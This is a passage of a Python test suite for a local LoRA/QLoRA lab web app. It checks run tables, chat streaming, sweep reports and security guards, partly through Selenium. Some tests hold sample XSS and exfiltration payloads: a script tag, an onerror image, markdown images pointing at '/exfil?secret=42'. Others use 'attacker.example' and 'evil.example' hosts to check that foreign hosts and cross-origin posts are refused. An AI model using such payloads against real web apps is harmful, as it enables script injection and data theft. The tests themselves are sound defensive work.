"""pipeline=web: the page logic without a browser, then the real app in a headless Chromium (Selenium).

The browser tests need the Debian packages `chromium` and `chromium-driver` (`.ci/run` installs them); without
them they fail and say how to install them. Screenshots of each page go to outputs/test-artifacts/web/.
"""

from __future__ import annotations

import gc
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import weakref
from dataclasses import dataclass
from pathlib import Path
from types import SimpleNamespace

import pytest
import torch
from omegaconf import OmegaConf

from qlora_lab import web_pages
from qlora_lab.config import DatasetConfig, GenerationConfig
from qlora_lab.data import encode, render_prompt
from qlora_lab.inference import generate, load_for_inference
from qlora_lab.pipelines.web import (
    Guard,
    ModelCache,
    as_reply,
    as_typed,
    conversation_ids,
    generation_settings,
    served_names,
    stream_reply,
)
from qlora_lab.report import write_report

from .conftest import ROOT, TINY, make_cfg, run_main

ARTIFACTS = ROOT / "outputs" / "test-artifacts" / "web"
GREEDY = GenerationConfig(max_new_tokens=12)
LONG_JOB = "3_+experiment=lora_vs_qlora,dataset.size=16,quantization=nf4,train.max_steps=4,lora.r=16"
OTHER_HOST = (
    "attacker.example"  # a name the test browser resolves to 127.0.0.1: another site, or DNS rebinding
)


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    """An outputs folder with one tiny trained run (eval loss before and after) and a one-job sweep report."""
    out = tmp_path_factory.mktemp("web") / "outputs"
    run_dir = out / "tiny" / "run1"
    result = run_main(
        *TINY, "quantization=none", "train.max_steps=4", f"paths.output_dir={out}", f"hydra.run.dir={run_dir}"
    )
    assert result.returncode == 0, result.stderr[-3000:]
    shutil.copytree(
        run_dir, out / "tiny" / "run2", ignore=shutil.ignore_patterns("checkpoints")
    )  # loses its adapter
    job = out / "multirun" / "demo" / "0_quantization=none"
    shutil.copytree(run_dir, job, ignore=shutil.ignore_patterns("adapter", "checkpoints"))
    write_report(job.parent)
    # a sweep job's folder as Hydra names it: long, with `=`, `+` and `,`
    shutil.copytree(
        run_dir,
        out / "multirun" / "2026-11-30" / "08-12-33" / LONG_JOB,
        ignore=shutil.ignore_patterns("checkpoints"),
    )
    return out


# ---------------------------------------------------------------- page logic, no browser


def write_job(
    path: Path, stages: list[str], metrics: dict, status: str = "completed", started: str = ""
) -> None:
    (path / ".hydra").mkdir(parents=True)
    cfg = {
        "model": {"name_or_path": "m"},
        "quantization": {"method": "nf4"},
        "dataset": {"name": "alpaca", "size": 8},
        "pipeline": {"stages": stages},
    }
    OmegaConf.save(OmegaConf.create(cfg), path / ".hydra" / "config.yaml")
    (path / "run.json").write_text(json.dumps({"status": status, "started_at": started, "error": "boom"}))
    (path / "metrics.json").write_text(json.dumps(metrics))


def test_runs_table_lists_runs_newest_first_without_the_web_app_itself(tmp_path):
    write_job(
        tmp_path / "a" / "old",
        ["train"],
        {"eval/loss_before": 2.5, "eval/loss": 1.25},
        started="2026-11-01T10:00:00+00:00",
    )
    write_job(
        tmp_path / "multirun" / "s" / "0_x=1",
        ["train"],
        {},
        status="failed",
        started="2026-11-02T10:00:00+00:00",
    )
    write_job(tmp_path / "run" / "web", ["web"], {}, started="2026-11-03T10:00:00+00:00")
    (tmp_path / "a" / "old" / "adapter").mkdir()  # a run's own subfolders are not runs
    rows = web_pages.runs_table(tmp_path)
    assert [r["run"] for r in rows] == ["multirun/s/0_x=1", "a/old"]
    old = rows[1]
    assert old == {
        "run": "a/old",
        "started (UTC)": "2026-11-01 10:00",
        "model": "m",
        "quantization": "nf4",
        "dataset": "alpaca (8)",
        "stages": "train",
        "status": "completed",
        "eval loss before": "2.5000",
        "eval loss after": "1.2500",
    }
    assert rows[0]["status"] == "failed: boom" and rows[0]["eval loss after"] == "–"
    assert web_pages.runs_table(tmp_path / "missing") == []


def test_inference_modes_follow_the_files_a_run_has(tmp_path):
    assert web_pages.inference_modes(None) == ["base"]
    assert web_pages.inference_modes(tmp_path) == ["base"]
    (tmp_path / "adapter").mkdir()
    (tmp_path / "adapter" / "adapter_config.json").write_text("{}")
    assert web_pages.inference_modes(tmp_path) == ["adapter", "merge_and_unload", "base"]
    (tmp_path / "merged").mkdir()
    (tmp_path / "merged" / "config.json").write_text("{}")
    assert web_pages.inference_modes(tmp_path) == ["adapter", "merge_and_unload", "merged", "base"]


def test_run_details_of_a_trained_run(outputs):
    details = web_pages.run_details(outputs / "tiny" / "run1")
    metrics = json.loads((outputs / "tiny" / "run1" / "metrics.json").read_text())
    assert details["metrics"] == metrics and "tiny-random-llama" in details["config"]
    assert "pipeline=evaluate" in details["evaluation"]  # no evaluation yet: says how to get one
    history = details["history"]
    assert [step for step, _ in history["train"]] == [1, 2, 3, 4]
    assert history["eval"][0] == (0, pytest.approx(metrics["eval/loss_before"]))
    assert history["eval"][-1] == (4, pytest.approx(metrics["eval/loss"]))
    figure = web_pages.loss_figure(history, "run1")
    assert [line.get_label() for line in figure.axes[0].get_lines()] == ["train loss", "eval loss"]
    assert web_pages.loss_figure({"train": [], "eval": []}, "none") is None


def test_sweep_page_shows_the_report_and_its_plots(outputs):
    sweeps = web_pages.sweep_dirs(outputs)
    assert sweeps == [outputs / "multirun" / "demo"]
    page = web_pages.sweep_page(sweeps[0])
    summary = (sweeps[0] / "summary.md").read_text()
    # one LoRA job: the card says there are no pairs (and so has no plot); summary.md follows without the card
    assert "there are no LoRA/QLoRA pairs, so no verdict" in page["card"] and page["card_plot"] is None
    assert page["summary"].startswith("# Sweep report: demo") and "## Decision" not in page["summary"]
    start = summary.index("## Decision")
    assert page["summary"] == summary[:start] + summary[summary.index("\n## ", start) + 1 :]
    assert [p.name for p in page["plots"]] == [
        "eval_loss.png",
        "learning_curves.png",
        "peak_memory.png",
        "time_vs_size.png",
    ]


def test_sweep_page_shows_the_decision_card_with_its_plot_and_only_files_inside_the_sweep(tmp_path):
    from qlora_lab.report import write_report

    from .conftest import fake_sweep

    sweep = tmp_path / "outputs" / "multirun" / "s"
    jobs = fake_sweep(sweep, {8: [0.10, 0.12, 0.11], 16: [0.01, -0.01, 0.005]})
    write_report(sweep)
    page = web_pages.sweep_page(sweep)
    card = page["card"]
    assert (
        card.startswith("# Decision: s")
        and "its eval loss is within noise of LoRA's from 16 examples on" in card
    )
    assert "![decision]" not in card and page["card_plot"] == sweep / "decision.png"
    # the runs behind a row, by job number (the page cannot open a job folder link)
    row8 = next(line for line in card.splitlines() if line.startswith("| 8 |"))
    assert "](" not in row8 and all(
        f"`{jobs[(q, 8, seed)].split('_')[0]}`" in row8 for q in ("none", "nf4") for seed in (42, 43, 44)
    )
    assert [p.name for p in page["plots"]] == ["eval_loss.png", "peak_memory.png", "time_vs_size.png"]
    assert "## Decision" not in page["summary"] and "## Over the seeds" in page["summary"]
    # a card or plot that is a link out of the sweep folder is not read
    secret = tmp_path / "secret.md"
    secret.write_text("not for the page")
    for name in ("decision.md", "decision.png", "eval_loss.png"):
        (sweep / name).unlink()
        (sweep / name).symlink_to(secret)
    page = web_pages.sweep_page(sweep)
    assert (
        page["card"] is None
        and page["card_plot"] is None
        and "eval_loss.png" not in [p.name for p in page["plots"]]
    )


def test_conversation_is_rendered_as_in_training_and_trimmed_to_fit(tokenizer):
    d = DatasetConfig()
    messages = [{"role": "system", "content": "Be brief."}]
    for i in range(4):
        messages += [
            {"role": "user", "content": f"question {i} " * 20},
            {"role": "assistant", "content": f"answer {i}"},
        ]
    messages.append({"role": "user", "content": "last question"})
    ids, kept = conversation_ids(messages, tokenizer, d, max_new_tokens=16, max_len=10_000)
    assert kept == messages
    assert tokenizer.decode(ids[0]) == render_prompt(messages, tokenizer, d)
    short, kept = conversation_ids(messages, tokenizer, d, max_new_tokens=16, max_len=ids.shape[1] - 40)
    # the oldest exchanges go first; the system prompt and the newest message stay
    assert kept[0] == messages[0] and kept[-1] == messages[-1] and len(kept) < len(messages)
    assert kept[1:] == messages[len(messages) - len(kept) + 1 :]
    assert short.shape[1] + 16 <= ids.shape[1] - 40


def test_stream_reply_streams_what_generate_returns(outputs):
    cfg = make_cfg([*TINY, "quantization=none"])
    slot = ModelCache(cfg, None)
    loaded = slot.get(None, "base")
    prompt = render_prompt([{"role": "user", "content": "Name a colour."}], loaded.tokenizer, cfg.dataset)
    ids = encode(prompt, loaded.tokenizer, return_tensors="pt")["input_ids"]
    steps = list(stream_reply(loaded, ids, GREEDY, every_s=0))
    texts = [text for text, _ in steps]
    assert len({t for t in texts[:-1] if t}) >= 2  # the answer grows piece by piece
    final, stats = steps[-1]
    expected = generate(loaded.model, loaded.tokenizer, [prompt], GREEDY, 1)[0]
    assert final == expected["output"].strip() and stats["new_tokens"] == expected["new_tokens"]
    assert 0 < stats["ttft_s"] <= stats["seconds"] and stats["tokens_per_s"] > 0


def test_a_failed_generation_is_raised_to_the_page(outputs):
    slot = ModelCache(make_cfg([*TINY, "quantization=none"]), None)
    loaded = slot.get(None, "base")
    ids = torch.tensor([[1, 2, 3]])
    gen = generation_settings(GREEDY, False, 1.0, 50, 1.0, 4, 1.0)
    loaded.model.generate = lambda **kwargs: (_ for _ in ()).throw(RuntimeError("device on fire"))
    with pytest.raises(RuntimeError, match="device on fire"):
        list(stream_reply(loaded, ids, gen))


def generation_threads() -> list[threading.Thread]:
    return [t for t in threading.enumerate() if t.name == "web-generate"]


def test_stop_and_closing_end_the_generation(outputs):
    """The Stop button's event ends the answer early; a closed stream (page gone, event cancelled) ends
    generate()."""
    loaded = ModelCache(make_cfg([*TINY, "quantization=none"]), None).get(None, "base")
    ids = torch.tensor([[1, 2, 3]])
    long = GenerationConfig(max_new_tokens=500)
    stop = threading.Event()
    steps = []
    for _, stats in stream_reply(loaded, ids, long, stop):
        steps.append(stats)
        if stats["new_tokens"] >= 5:
            stop.set()
    assert steps[-1]["stopped"] and 5 <= steps[-1]["new_tokens"] < 500 and not generation_threads()

    stream = stream_reply(loaded, ids, long)
    next(stream)
    assert generation_threads()
    stream.close()  # what Gradio does when the client goes away
    assert not generation_threads()


def test_page_text_shows_what_was_typed_and_no_html_or_images():
    typed = "<script>alert(1)</script> **bold** ![x](http://127.0.0.2:8765/exfil?secret=42) a_b & 1. $x$"
    from markdown_it import MarkdownIt

    html = MarkdownIt().render(as_typed(typed))
    assert "<script" not in html and "<img" not in html and "<strong" not in html
    import html as html_lib
    import re as re_lib

    assert html_lib.unescape(re_lib.sub(r"<[^>]+>", "", html)).strip() == typed
    reply = "Look: ![x](http://evil/exfil) <img src=x onerror=alert(1)> `<b>code</b>`\n```\n<i>kept</i>\n```"
    html = MarkdownIt().render(as_reply(reply))
    assert "<img" not in html and "exfil" in html  # the image's markdown shown as text, not fetched
    assert "&lt;b&gt;code&lt;/b&gt;" in html and "&lt;i&gt;kept&lt;/i&gt;" in html  # code as written


def test_the_evaluate_command_suggested_for_a_sweep_job_can_be_pasted(tmp_path):
    """A sweep job's folder name holds `=`, `+` and `,`: the command quotes it for the shell and for Hydra."""
    import shlex

    from hydra.core.override_parser.overrides_parser import OverridesParser

    job = tmp_path / "multirun" / "s" / "3_+experiment=lora_vs_qlora,dataset.size=16,quantization=nf4"
    text = web_pages.run_details(job)["evaluation"]
    command = text.split("`")[1]
    words = shlex.split(command)
    assert words[:4] == ["python", "-m", "qlora_lab", "pipeline=evaluate"], command
    override = OverridesParser.create().parse_overrides(words[4:])[0]
    assert override.key_or_group == "run_dir" and override.value() == str(job)
    assert web_pages.shell_arg("run_dir", "outputs/a/b") == "run_dir=outputs/a/b"


def test_the_guard_refuses_foreign_hosts_cross_origin_posts_and_uploads():
    from starlette.applications import Starlette
    from starlette.responses import PlainTextResponse
    from starlette.routing import Route
    from starlette.testclient import TestClient

    ok = lambda request: PlainTextResponse("ok")  # noqa: E731
    app = Starlette(
        routes=[
            Route("/config", ok),
            Route("/gradio_api/queue/join", ok, methods=["POST"]),
            Route("/gradio_api/upload", ok, methods=["POST"]),
        ]
    )
    client = TestClient(Guard(app, served_names("127.0.0.1")), base_url="http://127.0.0.1:7860")
    page = client.get("/config")
    assert page.status_code == 200 and "img-src 'self'" in page.headers["content-security-policy"]
    assert client.get("/config", headers={"Host": "[::1]:7860"}).status_code == 200
    assert client.get("/config", headers={"Host": "attacker.example:7860"}).status_code == 400
    assert (
        client.post("/gradio_api/queue/join", headers={"Origin": "http://127.0.0.1:7860"}).status_code == 200
    )
    assert client.post("/gradio_api/queue/join", headers={"Origin": "http://evil.example"}).status_code == 403
    assert client.post("/gradio_api/queue/join", headers={"Origin": "null"}).status_code == 403
    assert client.post("/gradio_api/upload", headers={"Origin": "http://127.0.0.1:7860"}).status_code == 403
    assert "attacker.example" in served_names("attacker.example") and served_names("0.0.0.0") > served_names(
        "127.0.0.1"
    )


def test_model_cache_keeps_models_within_its_budget(outputs):
    run_dir = outputs / "tiny" / "run1"
    cfg = make_cfg([*TINY, "quantization=none", f"run_dir={run_dir}"])
    cache = ModelCache(cfg, run_dir, budget=10**12)  # room for both: side by side loads each once
    first = cache.get(run_dir, "adapter")
    second = cache.get(run_dir, "base")
    assert cache.get(run_dir, "adapter") is first and cache.get(run_dir, "base") is second
    assert first.bytes > 0 and not hasattr(second.model, "peft_config")

    small = ModelCache(cfg, run_dir, budget=first.bytes + first.bytes // 2)  # room for one of these
    first = small.get(run_dir, "adapter")
    assert small.to_drop(small.key(run_dir, "base")) == [(str(run_dir), "adapter")]
    gone = weakref.ref(first.model)
    del first
    second = small.get(run_dir, "base")
    gc.collect()
    assert gone() is None and list(small.loaded) == [(str(run_dir), "base")]


def test_a_browsed_run_cannot_turn_on_trust_remote_code(outputs, tmp_path):
    """A run folder's saved config may say trust_remote_code: true; only the app's own command line can."""
    run_dir = tmp_path / "sneaky"
    shutil.copytree(outputs / "tiny" / "run1", run_dir)
    saved = OmegaConf.load(run_dir / ".hydra" / "config.yaml")
    saved.model.trust_remote_code = True
    OmegaConf.save(saved, run_dir / ".hydra" / "config.yaml")
    assert ModelCache(make_cfg([*TINY]), None).run_config(run_dir).model.trust_remote_code is False
    trusting = make_cfg([*TINY, "model.trust_remote_code=true"])
    assert ModelCache(trusting, None).run_config(run_dir).model.trust_remote_code is True


def test_adapter_mode_loads_what_the_run_trained(outputs):
    """The slot loads a run chosen in the page with that run's own config (here: not the job's)."""
    run_dir = outputs / "tiny" / "run1"
    slot = ModelCache(make_cfg(["quantization=nf4"]), None)  # the job's own settings differ from the run's
    cfg = slot.run_config(run_dir)
    assert cfg.model.name_or_path == "tiny-random-llama" and cfg.quantization.method.value == "none"
    loaded = slot.get(run_dir, "adapter")
    reference, _ = load_for_inference(cfg, run_dir, "adapter")
    ids = torch.tensor([[1, 5, 9, 13]])
    with torch.no_grad():
        torch.testing.assert_close(loaded.model(input_ids=ids).logits, reference(input_ids=ids).logits)


# ---------------------------------------------------------------- the real app in a real browser


def browser_paths() -> tuple[str, str]:
    chromium = os.environ.get("CHROMIUM") or shutil.which("chromium") or shutil.which("chromium-browser")
    driver = os.environ.get("CHROMEDRIVER") or shutil.which("chromedriver")
    if not chromium or not driver:
        pytest.fail(
            "the web app's browser tests need Chromium and its driver: install them with "
            "`sudo apt-get install -y chromium chromium-driver` (Debian/Ubuntu; .ci/run does this), or "
            "point CHROMIUM= and CHROMEDRIVER= at a matching pair."
        )
    return chromium, driver


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_a_port_in_use_is_refused_in_one_sentence():
    from qlora_lab.config import ConfigError
    from qlora_lab.pipelines.web import check_port

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        with pytest.raises(
            ConfigError,
            match=rf"^web.host=127.0.0.1 web.port={port} cannot be served .*; pick a "
            rf"free port with web.port=N, or a local address for web.host.$",
        ):
            check_port("127.0.0.1", port)
    check_port("127.0.0.1", port)  # free again


@dataclass
class Server:
    url: str
    port: int
    lines: list[str]  # its stdout and stderr, line by line, as they come
    temp_dir: Path  # GRADIO_TEMP_DIR: where an upload would land


def launch(args: list[str], job: Path, **env) -> tuple[subprocess.Popen, str, list[str]]:
    """`python -m qlora_lab pipeline=web ARGS` on a free port: (process, its URL, its output lines as they
    come)."""
    port = free_port()
    env = dict(os.environ, PYTHONUNBUFFERED="1", HF_HUB_OFFLINE="1", TOKENIZERS_PARALLELISM="false", **env)
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "qlora_lab",
            "pipeline=web",
            *args,
            f"web.port={port}",
            f"hydra.run.dir={job}",
        ],
        cwd=ROOT,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    lines: list[str] = []
    ready = threading.Event()

    def read():
        for line in proc.stdout:
            lines.append(line)
            if line.startswith("web app: http"):
                ready.set()

    threading.Thread(target=read, daemon=True).start()
    if not ready.wait(120):
        proc.kill()
        pytest.fail("the web app did not print its URL within 120 s:\n" + "".join(lines)[-3000:])
    url = next(line for line in lines if line.startswith("web app: http")).split()[2]
    assert url == f"http://127.0.0.1:{port}"
    return proc, url, lines


def stop(proc: subprocess.Popen, lines: list[str], job: Path) -> None:
    """Ctrl-C (SIGINT): a clean end of the stage."""
    proc.send_signal(signal.SIGINT)
    assert proc.wait(120) == 0, "".join(lines)[-3000:]
    assert "web app stopped" in "".join(lines)
    assert json.loads((job / "run.json").read_text())["status"] == "completed"


@pytest.fixture(scope="module")
def app(outputs, tmp_path_factory):
    """The app on a tiny trained run, with GRADIO_TEMP_DIR in a folder of its own."""
    temp_dir, job = tmp_path_factory.mktemp("gradio_tmp"), tmp_path_factory.mktemp("web_job")
    proc, url, lines = launch(
        [
            f"run_dir={outputs / 'tiny' / 'run1'}",
            "model=tiny_random",
            "generation.max_new_tokens=48",
            f"paths.output_dir={outputs}",
        ],
        job,
        GRADIO_TEMP_DIR=str(temp_dir),
    )
    yield Server(url, int(url.rsplit(":", 1)[1]), lines, temp_dir)
    stop(proc, lines, job)


def test_web_auth_asks_for_a_login_and_stays_off_disk(outputs, tmp_path):
    """web.auth from the environment: the page needs the login, and the password is in no file of the job."""
    import urllib.error
    import urllib.parse
    import urllib.request

    job = tmp_path / "job"
    proc, url, lines = launch(
        ["model=tiny_random", "web.auth=${oc.env:WEB_LOGIN}", f"paths.output_dir={outputs}"],
        job,
        WEB_LOGIN="me:a-long-secret",
    )
    try:
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(f"{url}/config", timeout=30)
        assert refused.value.code == 401

        def login(password: str) -> int:
            form = urllib.parse.urlencode({"username": "me", "password": password}).encode()
            try:
                with urllib.request.urlopen(
                    urllib.request.Request(f"{url}/login", form), timeout=30
                ) as answer:
                    return answer.status
            except urllib.error.HTTPError as e:
                return e.code

        assert login("wrong") == 400 and login("a-long-secret") == 200
    finally:
        stop(proc, lines, job)
    assert not [p for p in job.rglob("*") if p.is_file() and b"a-long-secret" in p.read_bytes()]


@pytest.fixture(scope="module")
def other_site(tmp_path_factory):
    """Another web site, http://attacker.example:PORT (the browser resolves the name to 127.0.0.1), serving
    the pages the tests write into its folder and recording every path requested from it."""
    from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

    folder = tmp_path_factory.mktemp("other_site")
    requested: list[str] = []

    class Handler(SimpleHTTPRequestHandler):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, directory=str(folder), **kwargs)

        def do_GET(self):
            requested.append(self.path)
            super().do_GET()

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield SimpleNamespace(url=f"http://{OTHER_HOST}:{server.server_port}", folder=folder, requested=requested)
    server.shutdown()


# Counts, per component id, the events that updated it: how often Gradio's progress tracker of that component
# went from shown (an event with it among its outputs is running) to hidden again. Installed in every page the
# browser opens, before Gradio's own scripts, so that no update is missed.
COUNT_UPDATES = """
window.updates = {};
new MutationObserver(records => {
    for (const r of records) {
        const el = r.target;
        if (!el.matches('.wrap.full, .wrap.minimal') || r.oldValue === null) continue;
        if (!r.oldValue.split(' ').includes('hide') && el.classList.contains('hide')) {
            const id = el.closest('[id]')?.id || '';
            window.updates[id] = (window.updates[id] || 0) + 1;
        }
    }
}).observe(document, {subtree: true, attributes: true, attributeFilter: ['class'], attributeOldValue: true});
"""


@pytest.fixture(scope="module")
def chromium():
    """One headless Chromium for the module; each test gets it through `browser`, on a freshly loaded app."""
    chromium, driver = browser_paths()
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = chromium  # the system browser and driver: nothing is downloaded
    for arg in (
        "--headless=new",
        "--no-sandbox",
        "--disable-dev-shm-usage",
        "--disable-gpu",
        "--window-size=1280,1000",
        f"--host-resolver-rules=MAP {OTHER_HOST} 127.0.0.1",
    ):
        options.add_argument(arg)
    browser = webdriver.Chrome(service=Service(driver), options=options)
    count_updates(browser)
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    yield browser
    browser.quit()


@pytest.fixture
def browser(chromium, app):
    """The browser on a known page whatever the test before it left: one tab at the default size, the app
    loaded afresh (a new session: default settings, the Chat page, the start run; an older page's generation
    ends with it)."""
    for handle in chromium.window_handles[1:]:
        chromium.switch_to.window(handle)
        chromium.close()
    chromium.switch_to.window(chromium.window_handles[0])
    chromium.set_window_size(1280, 1000)
    load_app(chromium, app.url)
    return chromium


def count_updates(browser) -> None:
    """COUNT_UPDATES in every page this tab opens from now on."""
    browser.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": COUNT_UPDATES})


def load_app(browser, url: str) -> None:
    """Open the app and wait until its page-load event has updated the run list (it reads the folders
    again)."""
    browser.get(url)
    wait_for(lambda: updates(browser, "run-select"), what="the page load to update the run list")


def updates(browser, element_id: str) -> int:
    """How many events have updated the component so far in this page (COUNT_UPDATES)."""
    return browser.execute_script("return window.updates[arguments[0]] || 0", element_id)


def wait_for(condition, timeout: float = 60, what: str = ""):
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        value = condition()
        if value:
            return value
        time.sleep(0.2)
    raise AssertionError(f"timed out after {timeout} s waiting for {what}")


def text_of(browser, element_id: str) -> str:
    from selenium.webdriver.common.by import By

    found = browser.find_elements(By.ID, element_id)
    return found[0].text if found else ""


def open_tab(browser, name: str) -> None:
    from selenium.webdriver.common.by import By

    wait_for(
        lambda: browser.find_elements(By.XPATH, f"//button[@role='tab'][contains(., '{name}')]"),
        what=f"the {name} tab",
    )[0].click()


def test_chat_page_streams_a_reply(browser):
    from selenium.webdriver.common.by import By

    wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"), what="the chat input")
    # every change of the reply's text in the page, as the browser renders it
    browser.execute_script("""
        window.replyLengths = [];
        const root = document.querySelector('#chat-history');
        new MutationObserver(() => {
            const bots = root.querySelectorAll('[data-testid="bot"]');
            if (bots.length) window.replyLengths.push(bots[bots.length - 1].textContent.trim().length);
        }).observe(root, {subtree: true, childList: true, characterData: true});""")
    browser.find_element(By.CSS_SELECTOR, "#chat-input textarea").send_keys("Say hello.")
    browser.find_element(By.ID, "chat-send").click()
    status = wait_for(
        lambda: (s := text_of(browser, "chat-status")) and ("tokens/s" in s or "error" in s) and s,
        what="the reply's status line",
    )
    assert "error" not in status and "adapter model" in status and "time to first token" in status, status
    reply = browser.find_elements(By.CSS_SELECTOR, '#chat-history [data-testid="bot"]')[-1].text.strip()
    assert reply and "Say hello." in text_of(browser, "chat-history")
    lengths = [n for n in browser.execute_script("return window.replyLengths") if n]
    assert len(set(lengths)) >= 2 and sorted(lengths) == lengths, lengths  # it grew in the page: streamed
    browser.save_screenshot(str(ARTIFACTS / "chat.png"))
    browser.find_element(By.ID, "chat-reset").click()
    wait_for(
        lambda: not browser.find_elements(By.CSS_SELECTOR, '#chat-history [data-testid="bot"]'),
        what="the reset to clear the conversation",
    )


def test_a_failed_load_shows_its_error_and_the_app_keeps_serving(browser, outputs):
    from selenium.webdriver.common.by import By

    before = updates(browser, "chat-mode")
    choose(browser, "run-select", "tiny/run2")
    # the page lists run2's modes from its files: the files go only after it has
    wait_for(lambda: updates(browser, "chat-mode") > before, what="the page to list run2's inference modes")
    shutil.rmtree(outputs / "tiny" / "run2" / "adapter")  # gone after the page listed it
    browser.find_element(By.CSS_SELECTOR, "#chat-input textarea").send_keys("Hello?")
    browser.find_element(By.ID, "chat-send").click()
    status = wait_for(
        lambda: "error" in (s := text_of(browser, "chat-status")) and s, what="the error in the page"
    )
    assert "run2 has no trained adapter" in status, status
    browser.save_screenshot(str(ARTIFACTS / "chat_error.png"))
    choose(browser, "run-select", "tiny/run1")
    browser.find_element(By.ID, "chat-send").click()  # the message was handed back to the box
    wait_for(lambda: "tokens/s" in text_of(browser, "chat-status"), what="a reply from the other run")
    browser.find_element(By.ID, "chat-reset").click()


def choose(browser, element_id: str, value: str) -> None:
    """Pick an option of a Gradio dropdown as a user does: open it, click the option."""
    from selenium.webdriver.common.by import By

    browser.find_element(By.CSS_SELECTOR, f"#{element_id} input").click()
    wait_for(
        lambda: browser.find_elements(
            By.CSS_SELECTOR, f'#{element_id} li[role="option"][aria-label="{value}"]'
        ),
        what=f"option {value} of {element_id}",
    )[0].click()


def compare_answers(
    browser, left: str, right: str, timeout: float = 60
) -> tuple[tuple[str, str], tuple[str, str]]:
    """Click the button; wait until each side shows its mode's numbers; ((stats, answer) left, (stats, answer)
    right)."""
    from selenium.webdriver.common.by import By

    browser.find_element(By.ID, "sbs-send").click()
    wait_for(
        lambda: all(
            text_of(browser, f"{side}-stats").startswith(f"{mode}: ")
            and "tokens/s" in text_of(browser, f"{side}-stats")
            for side, mode in (("sbs-a", left), ("sbs-b", right))
        ),
        timeout,
        "both answers' numbers",
    )
    return tuple(
        (
            text_of(browser, f"{side}-stats"),
            browser.find_element(By.CSS_SELECTOR, f"#{side} textarea").get_attribute("value"),
        )
        for side in ("sbs-a", "sbs-b")
    )


def test_side_by_side_page_shows_two_answers(browser):
    from selenium.webdriver.common.by import By

    open_tab(browser, "Side by side")
    box = wait_for(
        lambda: [
            b for b in browser.find_elements(By.CSS_SELECTOR, "#sbs-input textarea") if b.is_displayed()
        ],
        what="the side-by-side prompt",
    )[0]
    box.send_keys("Name a colour.")
    # base vs fine-tuned by default (the random base model answers with newlines only: its text is blank)
    (left, _), (right, answer) = compare_answers(browser, "base", "adapter")
    browser.save_screenshot(str(ARTIFACTS / "side_by_side.png"))
    assert (
        int(left.split()[1]) > 0 and int(right.split()[1]) > 0 and answer.strip()
    )  # "<mode>: N tokens in ..."
    # the adapter merged in memory is the same model: the same greedy answer on the left
    choose(browser, "sbs-mode-a", "merge_and_unload")
    (left, left_answer), (right, right_answer) = compare_answers(browser, "merge_and_unload", "adapter")
    assert left_answer == right_answer and left_answer.strip()


def test_runs_page_lists_the_run_and_its_eval_loss(browser, outputs):
    from selenium.webdriver.common.by import By

    metrics = json.loads((outputs / "tiny" / "run1" / "metrics.json").read_text())
    open_tab(browser, "Runs")
    table = wait_for(
        lambda: "tiny/run1" in text_of(browser, "runs-table") and text_of(browser, "runs-table"),
        what="the run in the runs table",
    )
    assert f"{metrics['eval/loss']:.4f}" in table and f"{metrics['eval/loss_before']:.4f}" in table, table
    assert "multirun/demo/0_quantization=none" in table
    choose(browser, "run-open", "tiny/run1")
    wait_for(
        lambda: browser.find_elements(By.CSS_SELECTOR, "#run-loss img, #run-loss svg"), what="the loss curve"
    )
    wait_for(lambda: "eval/loss_before" in text_of(browser, "run-metrics"), what="metrics.json")
    browser.save_screenshot(str(ARTIFACTS / "runs.png"))


def test_sweeps_page_shows_the_report(browser):
    from selenium.webdriver.common.by import By

    open_tab(browser, "Sweeps")
    wait_for(lambda: "Sweep report: demo" in text_of(browser, "sweep-summary"), what="the sweep's summary.md")
    wait_for(
        lambda: "no LoRA/QLoRA pairs, so no verdict" in text_of(browser, "sweep-card"),
        what="the decision card",
    )
    wait_for(lambda: len(browser.find_elements(By.CSS_SELECTOR, "#sweep-plots img")) >= 3, what="the plots")
    browser.save_screenshot(str(ARTIFACTS / "sweeps.png"))


# ------------------------------------------------------ safe on a shared machine, finished where a user looks


def server_line(app: Server, text: str, since: int, timeout: float) -> str:
    """The first line of the app's output from line `since` on that holds `text`."""
    try:
        return wait_for(
            lambda: next((line for line in app.lines[since:] if text in line), None),
            timeout,
            f"{text!r} in the app's output",
        )
    except AssertionError as e:
        raise AssertionError(f"{e}; its output since:\n{''.join(app.lines[since:])[-3000:]}") from None


def set_max_new_tokens(browser, n: int) -> None:
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    css = "#max-new-tokens input[type=number]"
    if not [b for b in browser.find_elements(By.CSS_SELECTOR, css) if b.is_displayed()]:
        wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#settings button"), what="the settings")[
            0
        ].click()
    box = wait_for(
        lambda: [b for b in browser.find_elements(By.CSS_SELECTOR, css) if b.is_displayed()],
        what="the generation settings",
    )[0]
    box.send_keys(Keys.CONTROL, "a")
    box.send_keys(str(n), Keys.TAB)
    wait_for(lambda: box.get_attribute("value") == str(n), what=f"max new tokens = {n}")


def send_message(browser, text: str) -> None:
    from selenium.webdriver.common.by import By

    open_tab(browser, "Chat")
    wait_for(lambda: browser.find_elements(By.CSS_SELECTOR, "#chat-input textarea"), what="the chat input")
    browser.find_element(By.CSS_SELECTOR, "#chat-input textarea").send_keys(text)
    browser.find_element(By.ID, "chat-send").click()


def bubbles(browser, who: str) -> list[str]:
    """The text of the chat's user or bot messages, read at once (a streaming page replaces them as it
    goes)."""
    return browser.execute_script(
        """return [...document.querySelectorAll('#chat-history [data-testid]')]
        .filter(b => b.dataset.testid === arguments[0]).map(b => b.innerText)""",
        who,
    )


def test_a_foreign_host_is_refused(browser, app):
